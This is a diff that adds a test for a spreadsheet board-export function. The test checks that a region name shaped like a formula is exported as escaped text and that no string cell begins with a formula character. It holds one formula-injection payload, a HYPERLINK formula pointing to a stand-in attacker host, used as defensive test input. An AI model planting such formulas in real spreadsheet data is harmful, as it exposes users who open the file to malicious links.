@@ -777,6 +777,29 @@ describe('export_board', () => {
     expect(targets).toContainEqual(['Company A', 'Direct', 'Hires', 0, 0, 2, ...Array(9).fill(0), 2]);
   });
 
+  it('writes a region named like a formula as text, never a formula (issue 27 item 2)', async () => {
+    const name = '=HYPERLINK("http://evil.example/?x","click")';
+    await exec(sql`update regions set name = ${name} where id = ${id.RB}`);
+    try {
+      const res = await exportBoard({ board: 'admin', format: 'xlsx', region: id.RB, year: 2025 }, 'es');
+      const book = await readBook(res.rawPayload);
+      const regions = rowsOf(book.worksheets[0]);
+      expect(regions.at(-1)?.[0]).toBe(`'${name}`);
+      // the counts stay numbers
+      expect(
+        regions
+          .at(-1)
+          ?.slice(1)
+          .every((cell) => typeof cell === 'number'),
+      ).toBe(true);
+      for (const sheet of book.worksheets)
+        for (const cell of rowsOf(sheet).flat())
+          if (typeof cell === 'string') expect(cell, sheet.name).not.toMatch(/^[=+\-@\t\r]/);
+    } finally {
+      await exec(sql`update regions set name = 'Dashboard Sur' where id = ${id.RB}`);
+    }
+  });
+
   it('the PDF writes the title, the filters and a section per figure in the reader’s language', async () => {
     const ctxOf = (lang: 'es' | 'en') =>
       ({ db: t.database.db, lang, config: t.config, actor: { is_superuser: true } }) as unknown as Ctx;
